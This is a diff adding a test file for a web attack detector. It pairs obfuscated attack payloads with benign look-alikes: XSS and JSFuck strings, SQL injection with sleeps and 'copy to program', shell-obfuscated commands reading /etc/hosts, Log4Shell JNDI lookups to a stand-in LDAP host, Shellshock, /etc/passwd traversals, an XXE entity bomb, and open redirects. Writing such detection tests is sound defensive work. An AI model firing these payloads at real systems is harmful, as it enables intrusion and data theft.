@@ -1,0 +1,126 @@
+/**
+ * Attack classes written from the language of each attack (docs/detection.md), each with a benign
+ * look-alike that must stay quiet. Request shapes: `q` a query value, `ua` the User-Agent, `ref`
+ * the Referer, `json`/`form`/`xml` a body, `path` a whole target.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { AttackDetector } from '../../../node/analysis/attacks';
+import type { AttackClass } from '../../../node/records/types';
+import { RELAXED, tx, type TxSpec } from './helpers';
+
+type Where = 'q' | 'ua' | 'ref' | 'json' | 'form' | 'xml' | 'path';
+const HOST: [string, string] = ['Host', 'shop.example'];
+
+function spec(where: Where, v: string): TxSpec {
+  switch (where) {
+    case 'q': return { target: '/search?q=' + v };
+    case 'path': return { target: v };
+    case 'ua': return { target: '/', headers: [HOST, ['User-Agent', v]] };
+    case 'ref': return { target: '/', headers: [HOST, ['Referer', v]] };
+    case 'json': return { method: 'POST', target: '/api/items', headers: [HOST, ['Content-Type', 'application/json']], body: v };
+    case 'form': return { method: 'POST', target: '/submit', headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']], body: v };
+    case 'xml': return { method: 'POST', target: '/api/items', headers: [HOST, ['Content-Type', 'application/xml']], body: v };
+  }
+}
+
+const detector = new AttackDetector(RELAXED);
+function classes(where: Where, v: string): AttackClass[] {
+  return detector.detect(tx(spec(where, v)))?.hits.map((h) => h.class) ?? [];
+}
+
+const ATTACKS: Array<[string, AttackClass, Where, string]> = [
+  // 1. JavaScript without tags: computed calls on global objects, constructor chains, JSFuck.
+  ['property named by escaped string', 'xss', 'q', "frames[%27\\x61\\x6c\\x65\\x72\\x74%27](1)"],
+  ['name built from regex sources', 'xss', 'q', 'this[/al/.source%2B/ert/.source](1)'],
+  ['name built by concatenation, in the Referer', 'xss', 'ref', "https://x.example/?a=self[%27ale%27%2B%27rt%27](document.domain)"],
+  ['name from atob', 'xss', 'q', "window[atob(%27YWxlcnQ=%27)](1)"],
+  ['sinks given other names', 'xss', 'q', encodeURIComponent("';a=eval;b=alert;a(b(13));//")],
+  ['a namespaced VML frame', 'xss', 'q', encodeURIComponent('<v:vmlframe src="foo.example/sup.fml"/>')],
+  ['JSFuck', 'xss', 'q', encodeURIComponent('[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]][([]+[])[!+[]+!+[]+!+[]]](1)')],
+  // 2. Base64 inside structures.
+  ['PHP-serialized base64 path', 'ptrav', 'q', encodeURIComponent('a:1:{s:16:"L2V0Yy9wYXNzd2Q=";}')],
+  // 3. Bare SQL statements and time-based forms in every quoting.
+  ['bare SELECT', 'sqli', 'q', 'SELECT * FROM all_tables'],
+  ['CASE WHEN with pg_sleep', 'sqli', 'q', encodeURIComponent('SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END')],
+  ['copy to program', 'sqli', 'q', encodeURIComponent("1;copy (select '') to program 'nslookup x.example.net'")],
+  ['waitfor after a closed argument list', 'sqli', 'q', encodeURIComponent("','0');waitfor delay '0:0:5'--")],
+  ['typographic quotes', 'sqli', 'q', encodeURIComponent('\u2019 or \u20181\u2019=\u20191')],
+  // 4. Shell obfuscation.
+  ['quotes inside a command', 'rce', 'q', encodeURIComponent(";wh''oami")],
+  ['$IFS as separator', 'rce', 'q', encodeURIComponent('${IFS}id')],
+  ['arithmetic expansion', 'rce', 'q', encodeURIComponent('$((11+6))')],
+  ['command substitution of a word-command', 'rce', 'q', encodeURIComponent('$(echo 123)')],
+  ['empty expansion glued into a word', 'rce', 'q', encodeURIComponent(';c$@at /etc/hosts')],
+  // 5. JNDI lookups however spelled.
+  ['nested upper lookup', 'rce', 'ua', '${jnd${upper:i}:ldap://x.example.net/a}'],
+  ['default-value lookups', 'rce', 'ua', '${${::-j}${::-n}di:ldap://x.example.net/a}'],
+  ['env defaults', 'rce', 'ua', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example.net/a}'],
+  // 6. Shellshock variants.
+  ['shellshock with here-documents', 'rce', 'ua', '() { 0 <<a <<b <<c; } bash -c id'],
+  ['shellshock function a', 'rce', 'ua', '() { function a a>\\'],
+  // 7. Traversal encodings.
+  ['six-byte overlong dot', 'ptrav', 'path', '/%fc%80%80%80%80%ae%fc%80%80%80%80%ae/etc/passwd'],
+  ['%u002e', 'ptrav', 'q', '%u002e%u002e/%u002e%u002e/etc/passwd'],
+  ['....//', 'ptrav', 'q', '....//....//....//etc/passwd'],
+  ['..2f where a filter ate the %', 'ptrav', 'q', '..2f..2f..2fetc2fpasswd'],
+  ['a system file as the whole value', 'ptrav', 'q', encodeURIComponent('/proc/partitions')],
+  ['a Windows server file', 'ptrav', 'q', encodeURIComponent('c:\\xampp\\apache\\conf\\httpd.conf')],
+  // 8. XXE without SYSTEM, and DOCTYPE in JSON.
+  ['entity expansion bomb', 'xxe', 'xml', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'],
+  ['DOCTYPE in a JSON string', 'xxe', 'json', '{"doc":"<!DOCTYPE d [<!ENTITY e \\"x\\">]><d>&e;</d>"}'],
+  // 9. Backup files, consoles, known exploits.
+  ['backup of a JSP', 'scanner', 'path', '/index.jsp.Bak'],
+  ['editor copy', 'scanner', 'path', '/config.php~'],
+  ['ColdFusion administrator', 'scanner', 'path', '/CFIDE/administrator/'],
+  ['JBoss JMX console', 'scanner', 'path', '/jmx-console/HtmlAdaptor'],
+  ['OGNL concatenated into a string', 'rce', 'q', '\\u0027%2B{233*233}%2B\\u0027'],
+  // 10. NUL bytes.
+  ['NUL in a parameter', 'ptrav', 'q', '%00'],
+  ['NUL before an extension', 'ptrav', 'path', '/download/report.pdf%00.jpg'],
+  // Open redirect: evidence of abuse.
+  ['scheme-relative target', 'redir', 'path', '/login?next=//evil.example.net/'],
+  ['@-confusion', 'redir', 'path', '/login?next=https://shop.example@evil.example.net/'],
+  ['own name as prefix of another host', 'redir', 'path', '/login?next=https://shop.example.evil.net/'],
+];
+
+const BENIGN: Array<[string, Where, string]> = [
+  ['partner redirect_uri in an OAuth flow', 'path', '/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fclient.example.net%2Fcb&response_type=code'],
+  ['CAS service URL', 'path', '/cas/login?service=https%3A%2F%2Fportal.university.example%2Fc%2Fportal%2Flogin'],
+  ['returnUrl to a shop', 'path', '/account/login?returnUrl=https%3A%2F%2Fshop.partner.example%2Fcart'],
+  ['CRLF in JSON text', 'json', '{"comment":"Line one\\r\\nLocation: Paris\\r\\nX-Ray: done"}'],
+  ['GraphQL query text', 'json', '{"query":"query GetUser($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { id title } } } } }","variables":{"id":"42"}}'],
+  ['GraphQL with a pipe in an argument', 'json', '{"query":"{ search(term: \\"cat | dog\\") { id } }"}'],
+  ['binary-looking blob', 'json', '{"avatar":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}'],
+  ['search naming SQL words', 'q', 'how+to+use+union+select+in+mysql'],
+  ['JSON with an empty offset in a query', 'q', encodeURIComponent('{"offset":""}')],
+  ['lone <script search term', 'q', '%3Cscript'],
+  ['JavaScript source in a form field', 'form', 'source=' + encodeURIComponent('var d = new Date(); while (x) {} return this.items.filter(i => i.ok)')],
+  ['JavaScript computed call on a local object', 'form', 'js=' + encodeURIComponent('handlers[name](e); this[key](value);')],
+  ['path segment naming a file id', 'path', '/attachments/file:38b50ca6/download'],
+  ['PHP-serialized word', 'q', encodeURIComponent('a:1:{s:3:"foo";}')],
+  ['JWT', 'json', '{"token":"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}'],
+  ['dollar in prose', 'q', encodeURIComponent('cost $(USD) per month')],
+  ['a page about backups', 'path', '/docs/backup-and-restore.html'],
+  ['a user document path', 'q', encodeURIComponent('/home/alice/notes.txt')],
+  ['a relative link under /php', 'path', '/login?next=%2Fphp%2Fmanual'],
+  ['an old report', 'path', '/files/report.old.pdf'],
+  ['a manager dashboard', 'path', '/manager/dashboard'],
+  ['sleep in a sentence', 'q', encodeURIComponent("I'll sleep(8 hours) tonight")],
+  ['a function in a form field', 'form', 'code=' + encodeURIComponent('function debounce(fn, ms) { let t; return function () { clearTimeout(t); t = setTimeout(() => fn.apply(this, arguments), ms); }; }')],
+];
+
+for (const [name, cls, where, v] of ATTACKS) {
+  test(`${cls}: ${name}`, () => assert.ok(classes(where, v).includes(cls), `${where} ${v} gave ${classes(where, v).join(',') || 'nothing'}`));
+}
+
+for (const [name, where, v] of BENIGN) {
+  test(`benign: ${name}`, () => assert.deepEqual(classes(where, v), [], `${where} ${v}`));
+}
+
+test('a known exploit request names its CVE', () => {
+  const r = detector.detect(tx({ target: '/wp-content/plugins/sourceafrica/js/window.php?wpbase=x' }));
+  const hit = r?.hits.find((h) => h.class === 'scanner' && h.rule !== undefined);
+  assert.ok(hit, JSON.stringify(r?.hits));
+  assert.match(hit.rule!, /^CVE-\d{4}-\d+$/);
+});
